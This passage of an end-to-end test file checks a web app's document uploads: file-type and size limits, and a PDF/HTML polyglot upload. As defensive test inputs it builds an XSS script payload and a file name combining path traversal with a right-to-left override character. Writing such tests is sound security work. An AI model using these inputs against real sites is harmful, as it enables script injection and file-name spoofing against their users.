    const parts = withField(basePartsOf(name).parts, 'file', { name: 'file', value: file.bytes(), fileName: file.fileName, contentType: file.contentType });
    const before = fingerprint();
    const res = await postAction(request, baseURL!, action, parts);
    const body = await res.text();
    expect(res.status(), file.what).toBe(200);
    expect(internalsIn(body), file.what).toEqual([]);
    const state = actionState(body);
    expect(state.status, file.what).toBe('error');
    // Said once, at the file field: the form's message only points to it.
    expect(state.message, file.what).toBe(zh('errors.check_fields'));
    expect(state.fieldErrors?.file, file.what).toBe(zh('errors.file_type'));
    expect(changedTables(before, fingerprint()), `${file.what}: stored`).toEqual([]);
  }
  // Just over the file limit but under the body limit: the server's own check answers.
  count('uploads');
  const big = Buffer.alloc(10 * 1024 * 1024 + 1024);
  pngBytes().copy(big);
  const before = fingerprint();
  const res = await postAction(request, baseURL!, action, withField(basePartsOf(name).parts, 'file', { name: 'file', value: big, fileName: 'big.png', contentType: 'image/png' }));
  const state = actionState(await res.text());
  expect(res.status()).toBe(200);
  expect(state.fieldErrors?.file).toBe(zh('errors.file_too_large'));
  expect(changedTables(before, fingerprint())).toEqual([]);
});

test('uploads: a PDF polyglot (PDF bytes, then HTML) is kept as a PDF under a generated name, and only ever served as a sandboxed attachment', async ({ baseURL }) => {
  // Decision: the bytes begin as a PDF, so it is typed as one (as a PDF reader would open it). It can
  // never run as a page of the site: stored under a random name, served as application/pdf, as an
  // attachment, with nosniff and a sandbox policy. A name that tries to look like something else stays a name.
  count('uploads');
  const name = 'app/cases/[id]/actions.ts#uploadDocumentFileAction';
  const polyglot = Buffer.from('%PDF-1.4\n%âãÏÓ\n<html><body><script>alert(document.domain)</script></body></html>\n%%EOF\n', 'latin1');
  const fileName = '..\\..\\evil\u202Elmth.pdf';
  // The story sent the document with the materials, and a file sent is kept: ready again first, as if sent back.
  const page = pages.borrower!;
  await page.goto(`/cases/${ids.main}`);
  const docItem = page.locator(`[data-testid="document"][data-document-id="${ids.document}"]`);
  await openFold(docItem.getByTestId('document-manage'));
  const statusForm = docItem.getByTestId('document-status-form');
  await statusForm.locator('select[name="status"]').selectOption('ready');
  await submitButton(statusForm).click();
  await expect(docItem).toHaveAttribute('data-status', 'ready');
  // The file its form would show now (the story's upload put one on it): replacing it is the borrower's choice.
  const shown = dbGet<{ stored_name: string | null }>('select stored_name from documents where id = ?', ids.document)!.stored_name ?? '';
  const parts = withField(withField(basePartsOf(name).parts, 'file', { name: 'file', value: polyglot, fileName, contentType: 'text/html' }), 'shownFile', shown);
  const res = await postAction(pages.borrower!.request, baseURL!, captured.get(name)!, parts);
  expect(actionState(await res.text()).status).toBe('ok');
  const doc = dbGet<{ stored_name: string; mime_type: string; file_name: string }>('select stored_name, mime_type, file_name from documents where id = ?', ids.document)!;
  expect(doc.stored_name).toMatch(/^[a-f0-9]{32}$/);
  expect(doc.mime_type).toBe('application/pdf');
  expect(doc.file_name).not.toMatch(/[\\/\u202E]/);
  const download = await pages.borrower!.request.get(`/documents/${ids.document}`);
  expect(download.status()).toBe(200);
  const h = download.headers();
  expect(h['content-type']).toBe('application/pdf');
  expect(h['content-disposition']).toMatch(/^attachment;/);
  expect(h['x-content-type-options']).toBe('nosniff');
  expect(h['content-security-policy']).toContain('sandbox');
  expect(h['content-security-policy']).toContain("default-src 'none'");
  expect(Buffer.compare(await download.body(), polyglot)).toBe(0);
});

test('uploads: a 15 MB body is refused with 413 (not a 500), and nothing is written', async ({ baseURL }) => {
  // Refused by the front server (scripts/server.mjs) from its Content-Length, before Next reads
  // it; e2e/body-limit.spec.ts shows the answer comes while the body is still unsent.
  count('uploads');
  const action = captured.get('app/cases/[id]/actions.ts#uploadDocumentFileAction')!;
  const big = Buffer.alloc(15 * 1024 * 1024);
  pngBytes().copy(big);
  const parts = withField(basePartsOf('app/cases/[id]/actions.ts#uploadDocumentFileAction').parts, 'file', { name: 'file', value: big, fileName: 'big.png', contentType: 'image/png' });
  const before = fingerprint();
  const res = await postAction(pages.borrower!.request, baseURL!, action, parts);
  const body = await res.text();
  expect(res.status()).toBe(413);
  expect(internalsIn(body)).toEqual([]);
  expect(changedTables(before, fingerprint())).toEqual([]);
});

test('uploads: in the browser, a file over 10 MB is caught as soon as it is chosen, with the size message next to it', async () => {
  count('uploads');
  const page = pages.borrower!;
  await page.goto(`/cases/${ids.main}`);
  const doc = page.getByTestId('documents').locator(`[data-testid="document"][data-kind="other"]`);
  await openFold(doc.getByTestId('document-manage'));
  const upload = doc.getByTestId('document-upload-form');
  const big = Buffer.alloc(15 * 1024 * 1024);
  pngBytes().copy(big);
  const before = fingerprint();
  await upload.locator('input[type="file"]').setInputFiles({ name: 'scan.png', mimeType: 'image/png', buffer: big });
  await expect(upload.getByTestId('file-too-large')).toHaveText(zh('errors.file_too_large'));
  expect(await upload.locator('input[type="file"]').evaluate((i: HTMLInputElement) => i.files?.length ?? 0)).toBe(0);
  // Sent anyway: the answer says why there is no file (not "choose a file"), once, at the field.
  await submitButton(upload).click();
  await expect(upload.getByTestId('error-file')).toHaveText(zh('errors.file_too_large'));
  await expect(upload.getByTestId('file-too-large')).toHaveCount(0);
  expect(changedTables(before, fingerprint())).toEqual([]);
});
